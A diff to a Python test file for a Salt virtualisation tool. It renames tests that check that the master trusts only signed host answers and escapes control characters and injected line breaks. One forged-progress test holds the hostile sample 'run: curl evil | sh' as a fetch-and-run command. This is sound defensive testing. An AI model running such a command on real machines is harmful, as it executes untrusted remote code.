@@ -1,4 +1,4 @@
-"""What a host says is heard if it has signed it, and whatever else comes in its name is not."""
+"""The master uses answers that the host has signed, and ignores all others in its name."""
 
 import contextlib
 import json
@@ -22,25 +22,25 @@ from sizes import sizes
 OWN, EVIL = keypairs.named("hyper1"), keypairs.named("evil")
 
 
-def packed(key=OWN, **what):
-    """Return what a host says, signed."""
+def packed(key=OWN, **fields):
+    """Return a signed answer of a host."""
     return signed.pack(
-        signed.SignedAnswer(**{"minion": "hyper1", "about": "1", "fun": "virt.x", **what}),
+        signed.SignedAnswer(**{"minion": "hyper1", "about": "1", "fun": "virt.x", **fields}),
         key[1].encode(),
     )
 
 
-def heard(data, public=OWN[0]):
-    """Return what the master takes of it."""
+def read_answer(data, public=OWN[0]):
+    """Return the answer as the master reads it."""
     return signed.unpack(data, public, minion="hyper1", about="1")
 
 
-def test_what_is_said_arrives_as_it_was():
+def test_an_answer_arrives_unchanged():
     value = {"vms": {"wéb1": [1, 2.5, None, True, "a\tb"]}}
 
-    said = heard(packed(value=value, why="no", retcode=2))
+    answer = read_answer(packed(value=value, why="no", retcode=2))
 
-    assert (said.value, said.why, said.retcode, said.fun) == (value, "no", 2, "virt.x")
+    assert (answer.value, answer.why, answer.retcode, answer.fun) == (value, "no", 2, "virt.x")
 
 
 FORGED = {
@@ -59,14 +59,14 @@ FORGED = {
 
 
 @pytest.mark.parametrize("name", FORGED)
-def test_what_another_says_is_not_heard(name):
+def test_an_answer_signed_by_another_host_is_ignored(name):
     with pytest.raises(signed.NotSigned):
-        heard(FORGED[name])
+        read_answer(FORGED[name])
 
 
-def test_nothing_is_heard_of_a_host_without_an_accepted_key():
+def test_an_answer_of_a_host_without_an_accepted_key_is_ignored():
     with pytest.raises(signed.NotSigned):
-        heard(packed(), public="")
+        read_answer(packed(), public="")
 
 
 JUNK = st.recursive(
@@ -77,61 +77,61 @@ JUNK = st.recursive(
 
 
 @sizes(quick=100, full=2000)
-def test_whatever_comes_is_passed_over(size):
+def test_any_unsigned_data_is_ignored(size):
     @settings(max_examples=size, deadline=None)
     @given(JUNK, JUNK, JUNK)
-    def look(junk, said, signature):
-        for data in (junk, {"said": said, "signature": signature}):
+    def look(junk, text, signature):
+        for data in (junk, {"said": text, "signature": signature}):
             with pytest.raises(signed.NotSigned):
-                heard(data)
+                read_answer(data)
 
     look()
 
 
-def test_what_a_host_says_that_makes_no_sense_is_an_error_of_that_host(monkeypatch):
+def test_a_nonsense_answer_is_an_error_of_its_host(monkeypatch):
     def by_hand(text):
         monkeypatch.setattr(signed.json, "dumps", lambda *_args, **_options: text)
         return packed()
 
-    for text, why in (
+    for text, reason in (
         ("[" * 100_000, "recursion"),
         ("{", "Expecting"),
         ('{"minion": 1, "about": "1"}', "minion"),
     ):
-        with pytest.raises(signed.NotUnderstood, match=why):
-            heard(by_hand(text))
+        with pytest.raises(signed.NotUnderstood, match=reason):
+            read_answer(by_hand(text))
 
 
 def test_an_answer_of_a_hundred_mebibytes_is_not_read(monkeypatch):
     monkeypatch.setattr(signed, "MAX_BYTES", 1 << 20)
 
     with pytest.raises(signed.NotUnderstood, match="it has more than 1 MiB"):
-        heard(packed(value="x" * (3 << 20)))
+        read_answer(packed(value="x" * (3 << 20)))
 
 
-def test_nothing_that_a_terminal_would_obey_is_left():
-    said = heard(packed(value={"\x1b[2J": ["\x9b31m", "a\u202eb", "fine"]}, why="\x07"))
+def test_control_characters_are_escaped():
+    answer = read_answer(packed(value={"\x1b[2J": ["\x9b31m", "a\u202eb", "fine"]}, why="\x07"))
 
-    assert said.value == {r"\x1b[2J": [r"\x9b31m", r"a\u202eb", "fine"]}
-    assert said.why == r"\x07"
+    assert answer.value == {r"\x1b[2J": [r"\x9b31m", r"a\u202eb", "fine"]}
+    assert answer.why == r"\x07"
 
 
-def test_a_text_within_an_answer_is_one_line_as_it_stands_in_a_table_of_others():
+def test_texts_within_an_answer_are_one_line():
     forged = "down\nhyper2: nothing falls short\r\nhyper3"
 
-    said = heard(packed(value={"state": forged, "all": [forged]}, why="a\nb"))
+    answer = read_answer(packed(value={"state": forged, "all": [forged]}, why="a\nb"))
 
-    assert said.value == {"state": forged_line(), "all": [forged_line()]}
-    assert said.why == "a\nb" and heard(packed(value="a\nb")).value == "a\nb"
+    assert answer.value == {"state": forged_line(), "all": [forged_line()]}
+    assert answer.why == "a\nb" and read_answer(packed(value="a\nb")).value == "a\nb"
 
 
 def forged_line():
-    """Return the same as a host cannot put it on lines of its own."""
+    """Return the forged text without its line ends."""
     return "down hyper2: nothing falls short\\r hyper3"
 
 
 class Bus:
-    """Stand for Salt's client and its events: forged ones cannot be timed for real."""
+    """Stand for Salt's client and its events: no real forged event could be timed."""
 
     def __init__(self, *events):
         self.event, self.sent = self, []
@@ -143,7 +143,7 @@ class Bus:
         return {"jid": "1", "minions": targets}
 
     def get_event(self, wait, **_options):
-        """Return the next event; there is none before anybody was asked."""
+        """Return the next event; there is none before the first job."""
         return self._events.pop(0) if self.sent and self._events else time.sleep(wait)
 
     def get_cache_returns(self, _jid):
@@ -153,14 +153,14 @@ class Bus:
 
 @pytest.fixture
 def cloud(opts, monkeypatch):
-    """A master with one hypervisor; call it with what comes over its bus."""
+    """A function that returns a master with one hypervisor and these events on its bus."""
 
     def made(*events):
         minionkeys.accept(opts, "hyper1", OWN[0])
         bus = Bus(*events)
         monkeypatch.setattr(Cloud, "client", lambda _self: contextlib.nullcontext(bus))
-        known = MasterSettings(timeout_s=0.1, hypervisors="hyper1")
-        return bus, Cloud(opts=opts, settings=known, progress=lambda *_a, **_k: None)
+        settings = MasterSettings(timeout_s=0.1, hypervisors="hyper1")
+        return bus, Cloud(opts=opts, settings=settings, progress=lambda *_a, **_k: None)
 
     return made
 
@@ -170,7 +170,7 @@ def event(value, **data):
     return {"id": "hyper1", "return": value, **data}
 
 
-def test_a_forged_answer_is_passed_over_and_the_true_one_is_heard(cloud, caplog):
+def test_a_forged_answer_is_ignored_and_the_true_one_is_used(cloud, caplog):
     forged = event(packed(EVIL, value="lies"))
     _bus, master = cloud(forged, forged, event(packed(value="truth")))
 
@@ -200,15 +200,15 @@ def test_the_text_of_an_event_is_not_shown(cloud, caplog):
     assert "\x1b" not in caplog.text and "passed over" in caplog.text
 
 
-@pytest.mark.parametrize("said", ["'virt.signed' is not available.", "all is well", ["x"]])
-def test_a_host_without_our_code_is_no_reason_for_a_warning(cloud, caplog, said):
+@pytest.mark.parametrize("salt_error", ["'virt.signed' is not available.", "all is well", ["x"]])
+def test_a_host_without_this_project_causes_no_warning(cloud, caplog, salt_error):
     hearing = minions.ReplyCollector(cloud()[1], "1", ["hyper1"])
     with caplog.at_level(logging.WARNING):
-        hearing.accept({"id": "hyper1", "return": said})
-    assert ("passed over" in caplog.text) is ("virt.signed" not in said)
+        hearing.accept({"id": "hyper1", "return": salt_error})
+    assert ("passed over" in caplog.text) is ("virt.signed" not in salt_error)
 
 
-def test_a_host_with_old_code_is_silent_and_it_says_why(cloud):
+def test_a_host_with_old_code_counts_as_silent_with_the_reason(cloud):
     _bus, master = cloud(event("'virt.signed' is not available.", retcode=254))
 
     reply = minions.ask(master, ["hyper1"], "virt.x")["hyper1"]
@@ -216,7 +216,7 @@ def test_a_host_with_old_code_is_silent_and_it_says_why(cloud):
     assert reply.is_missing and "salt hyper1 saltutil.sync_all" in reply.error
 
 
-def test_an_answer_that_cannot_be_read_is_that_hosts_error(cloud, monkeypatch):
+def test_an_unreadable_answer_is_an_error_of_its_host(cloud, monkeypatch):
     monkeypatch.setattr(signed, "MAX_BYTES", 10)
     _bus, master = cloud(event(packed(value="x" * 100)))
 
@@ -225,7 +225,7 @@ def test_an_answer_that_cannot_be_read_is_that_hosts_error(cloud, monkeypatch):
     assert not reply.is_missing and reply.error.startswith("its answer is not understood: it has")
 
 
-def test_an_order_whose_answer_cannot_be_read_may_have_been_done(cloud, monkeypatch):
+def test_an_order_with_an_unreadable_answer_may_have_been_carried_out(cloud, monkeypatch):
     monkeypatch.setattr(signed, "MAX_BYTES", 10)
     _bus, master = cloud(event(packed(value="x" * 100)))
 
@@ -234,7 +234,7 @@ def test_an_order_whose_answer_cannot_be_read_may_have_been_done(cloud, monkeypa
     assert reply.is_missing and reply.error.startswith("hyper1: its answer is not understood")
 
 
-def test_an_order_to_one_host_has_nothing_that_others_can_read(cloud):
+def test_an_order_to_one_host_is_unreadable_for_others(cloud):
     bus, master = cloud(event(packed(value="built")))
 
     reply = minions.order(master, "hyper1", "virt.init", ["web1"], {"user_data": "MARKER"})
@@ -246,18 +246,18 @@ def test_an_order_to_one_host_has_nothing_that_others_can_read(cloud):
 
 
 @pytest.mark.slow
-def test_an_order_without_an_answer_is_given_up_by_its_id(cloud, monkeypatch):
+def test_an_order_without_an_answer_is_cancelled_by_its_id(cloud, monkeypatch):
     monkeypatch.setattr(minions, "_FIND_JOB_S", 0.1)
     bus, master = cloud()
 
     assert minions.order(master, "hyper1", "virt.init", ["web1"], {}).is_missing
 
     order_id = json.loads(keypair.unseal(bus.sent[0][1][0], OWN[1]))["id"]
-    told = bus.sent[-1][1][0]
-    assert (told["fun"], told["arg"]) == ("virt.refuse_order", [order_id])
+    order = bus.sent[-1][1][0]
+    assert (order["fun"], order["arg"]) == ("virt.refuse_order", [order_id])
 
 
-def test_an_order_that_the_host_had_only_queued_is_said_not_to_have_begun(cloud, monkeypatch):
+def test_an_order_that_was_only_queued_is_reported_as_not_begun(cloud, monkeypatch):
     monkeypatch.setattr(minions, "refuse", lambda *_args: minions.REFUSED)
     monkeypatch.setattr(minions, "_FIND_JOB_S", 0.1)
     _bus, master = cloud()
@@ -278,12 +278,12 @@ def test_a_minion_that_the_master_has_not_heard_itself_does_not_answer(cloud, mo
 
 
 @pytest.mark.parametrize("option", [{"job_cache": False}, {"ext_job_cache": "redis"}])
-def test_without_a_job_cache_of_the_masters_own_a_return_is_an_answer(cloud, option):
+def test_without_a_job_cache_a_return_counts_as_an_answer(cloud, option):
     _bus, master = cloud(*[{"id": "web1", "return": True}] * 2)
     master.opts.update(option)
-    said, own = {"id": "web1"}, compat.Grains(master.opts)
-    kept = said if own._has_bank else {"grains": said}
-    own._cache.store(*own._place("web1"), kept)
+    grains_data, grains_cache = {"id": "web1"}, compat.Grains(master.opts)
+    cached = grains_data if grains_cache._has_bank else {"grains": grains_data}
+    grains_cache._cache.store(*grains_cache._place("web1"), cached)
 
     assert minionwait.wait_for_start(master, "web1", wait_s=5, every_s=0.1) is not None
 
@@ -291,8 +291,8 @@ def test_without_a_job_cache_of_the_masters_own_a_return_is_an_answer(cloud, opt
 def test_forged_progress_is_not_shown(opts, monkeypatch):
     minionkeys.accept(opts, "hyper1", OWN[0])
     shown = []
-    known = MasterSettings(hypervisors="hyper1")
-    master = Cloud(opts=opts, settings=known, progress=lambda stage, **_k: shown.append(stage))
+    settings = MasterSettings(hypervisors="hyper1")
+    master = Cloud(opts=opts, settings=settings, progress=lambda stage, **_k: shown.append(stage))
     watch = hostcommands.progress_watcher(master, "salt/virt/init", "hyper1", "web1")
     lie = {"name": "web1", "stage": "run: curl evil | sh"}
 
@@ -309,10 +309,10 @@ def test_forged_progress_is_not_shown(opts, monkeypatch):
 
 @pytest.fixture
 def host(tmp_path):
-    """A minion: how it answers an order, and what its functions were given."""
+    """A minion: a function that answers an order, and the calls of its functions."""
     (tmp_path / "minion.pem").write_text(OWN[1])
-    opts, context, called = {"id": "hyper1", "pki_dir": str(tmp_path)}, {}, []
-    own = HostSettings(state_dir=str(tmp_path / "state"))
+    opts, context, calls = {"id": "hyper1", "pki_dir": str(tmp_path)}, {}, []
+    settings = HostSettings(state_dir=str(tmp_path / "state"))
 
     def failing(*_args, **_kwargs):
         raise BadArgument("name", "no")
@@ -325,7 +325,7 @@ def host(tmp_path):
         raise RuntimeError("boom")
 
     functions = {
-        "virt.x": lambda *args, **kwargs: called.append((args, kwargs)) or "done",
+        "virt.x": lambda *args, **kwargs: calls.append((args, kwargs)) or "done",
         "virt.fails": failing,
         "virt.coded": coded,
         "virt.broken": broken,
@@ -335,32 +335,32 @@ def host(tmp_path):
     }
 
     def answer(order):
-        said = answering.answer(opts, functions, context, "1", order, lambda: own)
-        return heard(said)
+        packed_answer = answering.answer(opts, functions, context, "1", order, lambda: settings)
+        return read_answer(packed_answer)
 
-    return answer, called
-
-
-def test_a_host_does_what_is_ordered_and_signs_what_it_says(host):
-    answer, called = host
-    said = answer({"fun": "virt.x", "arg": [1], "kwarg": {"b": 2}})
-
-    assert (said.value, said.fun, called) == ("done", "virt.x", [((1,), {"b": 2})])
+    return answer, calls
 
 
-def test_an_order_that_was_refused_is_not_done_and_one_is_done_once(host, tmp_path):
-    answer, called = host
-    own = HostSettings(state_dir=str(tmp_path / "state"))
-    answering.refuse_order(own, "1" * 32)
+def test_a_host_carries_out_an_order_and_signs_its_answer(host):
+    answer, calls = host
+    signed_answer = answer({"fun": "virt.x", "arg": [1], "kwarg": {"b": 2}})
+
+    assert (signed_answer.value, signed_answer.fun, calls) == ("done", "virt.x", [((1,), {"b": 2})])
+
+
+def test_a_refused_order_does_not_run_and_an_order_runs_once(host, tmp_path):
+    answer, calls = host
+    settings = HostSettings(state_dir=str(tmp_path / "state"))
+    answering.refuse_order(settings, "1" * 32)
 
     refused = answer({"fun": "virt.x", "id": "1" * 32})
-    done = [answer({"fun": "virt.x", "id": "2" * 32}).why for _time in range(2)]
+    reasons = [answer({"fun": "virt.x", "id": "2" * 32}).why for _time in range(2)]
 
     assert "the master has given this order up" in refused.why and refused.retcode == 1
-    assert done == [None, refused.why] and called == [((), {})]
+    assert reasons == [None, refused.why] and calls == [((), {})]
 
 
-def test_a_sealed_order_is_done_too(host):
+def test_a_sealed_order_runs_too(host):
     answer, called = host
 
     answer(keypair.seal('{"fun": "virt.x", "arg": ["web1"]}', OWN[0]))
@@ -369,7 +369,7 @@ def test_a_sealed_order_is_done_too(host):
 
 
 @pytest.mark.parametrize(
-    ("fun", "why", "code"),
+    ("fun", "reason", "code"),
     [
         ("virt.fails", "name: no", 1),
         ("virt.coded", None, 1),
@@ -377,10 +377,10 @@ def test_a_sealed_order_is_done_too(host):
         ("virt.gone", "'virt.gone' is not available.", 1),
     ],
 )
-def test_what_goes_wrong_is_signed_too(host, fun, why, code):
-    said = host[0]({"fun": fun})
+def test_errors_are_signed_too(host, fun, reason, code):
+    signed_answer = host[0]({"fun": fun})
 
-    assert (said.why, said.retcode) == (why, code)
+    assert (signed_answer.why, signed_answer.retcode) == (reason, code)
 
 
 @pytest.mark.parametrize(
@@ -398,7 +398,7 @@ def test_what_goes_wrong_is_signed_too(host, fun, why, code):
         "virt.x",
     ],
 )
-def test_whoever_may_call_virt_may_call_no_more_by_it(host, order):
+def test_an_order_cannot_call_other_modules(host, order):
     with pytest.raises(BadArgument):
         host[0](order)
     assert host[1] == []
